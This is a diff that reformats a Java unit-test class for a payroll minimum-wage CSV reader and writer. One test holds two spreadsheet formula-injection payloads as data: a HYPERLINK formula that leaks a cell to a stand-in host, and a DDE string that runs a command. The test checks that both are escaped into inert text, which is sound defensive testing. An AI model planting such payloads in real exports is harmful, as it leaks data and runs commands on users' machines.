@@ -19,7 +19,8 @@ class PayrollCsvTest {
 
     @Test
     void readsQuotedFieldsCrlfBomAndSkipsBlankLines() throws Exception {
-        CsvReader csv = CsvReader.of(new StringReader("\uFEFFa,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n\r\n1,,3"));
+        CsvReader csv =
+                CsvReader.of(new StringReader("\uFEFFa,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n\r\n1,,3"));
         assertEquals(List.of("a", "b", "c"), csv.next());
         assertEquals(List.of("x, y", "say \"hi\"", "two\nlines"), csv.next());
         assertEquals(List.of("1", "", "3"), csv.next());
@@ -39,32 +40,53 @@ class PayrollCsvTest {
 
     @Test
     void aHeaderWithMissingOrUnknownColumnsIsRefusedNamingThem() {
-        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
-                () -> PayrollCsv.fromHeader(List.of("region", "salary")));
+        IllegalArgumentException e =
+                assertThrows(IllegalArgumentException.class, () -> PayrollCsv.fromHeader(List.of("region", "salary")));
         assertEquals("missing columns: period, employment, grossPay; unknown columns: salary", e.getMessage());
     }
 
     @Test
     void resultRowsQuoteWhatNeedsQuotingAndMarkInvalidRecords() {
-        String ok = PayrollCsv.resultRow(2, ComplianceResult.newBuilder().setReference("A,1").setCompliant(false)
-                .setCountedPay("600.00").setMinimumRequired("608.00").setShortfall("8.00").setStandardApplied("15.20")
-                .setStandardEffectiveFrom("2017-05-01").build());
+        String ok = PayrollCsv.resultRow(
+                2,
+                ComplianceResult.newBuilder()
+                        .setReference("A,1")
+                        .setCompliant(false)
+                        .setCountedPay("600.00")
+                        .setMinimumRequired("608.00")
+                        .setShortfall("8.00")
+                        .setStandardApplied("15.20")
+                        .setStandardEffectiveFrom("2017-05-01")
+                        .build());
         assertEquals("2,\"A,1\",false,600.00,608.00,8.00,15.20,2017-05-01,", ok);
-        String invalid = PayrollCsv.resultRow(3, ComplianceResult.newBuilder()
-                .addViolations(FieldViolation.newBuilder().setField("grossPay").setDescription("must be a decimal, found 'x'"))
-                .build());
+        String invalid = PayrollCsv.resultRow(
+                3,
+                ComplianceResult.newBuilder()
+                        .addViolations(FieldViolation.newBuilder()
+                                .setField("grossPay")
+                                .setDescription("must be a decimal, found 'x'"))
+                        .build());
         assertTrue(invalid.startsWith("3,,invalid,"), invalid);
         assertTrue(invalid.endsWith(",\"grossPay: must be a decimal, found 'x'\""), invalid);
     }
 
     @Test
     void aHostileReferenceComesBackInertNotAsAFormula() {
-        String row = PayrollCsv.resultRow(4, ComplianceResult.newBuilder()
-                .setReference("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")").setCompliant(true)
-                .setCountedPay("1600.00").setMinimumRequired("1500.00").setShortfall("0.00").build());
+        String row = PayrollCsv.resultRow(
+                4,
+                ComplianceResult.newBuilder()
+                        .setReference("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")")
+                        .setCompliant(true)
+                        .setCountedPay("1600.00")
+                        .setMinimumRequired("1500.00")
+                        .setShortfall("0.00")
+                        .build());
         assertTrue(row.startsWith("4,\"'=HYPERLINK("), row);
-        String plus = PayrollCsv.resultRow(5, ComplianceResult.newBuilder().setReference("@SUM(1+1)*cmd|' /C calc'!A0")
-                .build());
+        String plus = PayrollCsv.resultRow(
+                5,
+                ComplianceResult.newBuilder()
+                        .setReference("@SUM(1+1)*cmd|' /C calc'!A0")
+                        .build());
         assertTrue(plus.startsWith("5,\"'@SUM("), plus);
     }
 
@@ -78,11 +100,17 @@ class PayrollCsvTest {
     void employerTypeIsAnOptionalColumnAndUnknownTextReachesTheServiceAsInvalid() {
         // 青政〔2017〕41号 二: the service refuses an uncovered or unknown employer type, naming the field
         PayrollCsv csv = PayrollCsv.fromHeader(List.of("region", "period", "employment", "grossPay", "employerType"));
-        assertEquals(cn.gov.qinghai.wage.v1.EmployerType.STATE_ORGAN,
-                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "state_organ")).getEmployerType());
-        assertEquals(cn.gov.qinghai.wage.v1.EmployerType.EMPLOYER_TYPE_UNSPECIFIED,
-                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "")).getEmployerType());
-        assertEquals(cn.gov.qinghai.wage.v1.EmployerType.UNRECOGNIZED,
-                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "household")).getEmployerType());
+        assertEquals(
+                cn.gov.qinghai.wage.v1.EmployerType.STATE_ORGAN,
+                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "state_organ"))
+                        .getEmployerType());
+        assertEquals(
+                cn.gov.qinghai.wage.v1.EmployerType.EMPLOYER_TYPE_UNSPECIFIED,
+                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", ""))
+                        .getEmployerType());
+        assertEquals(
+                cn.gov.qinghai.wage.v1.EmployerType.UNRECOGNIZED,
+                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "household"))
+                        .getEmployerType());
     }
 }
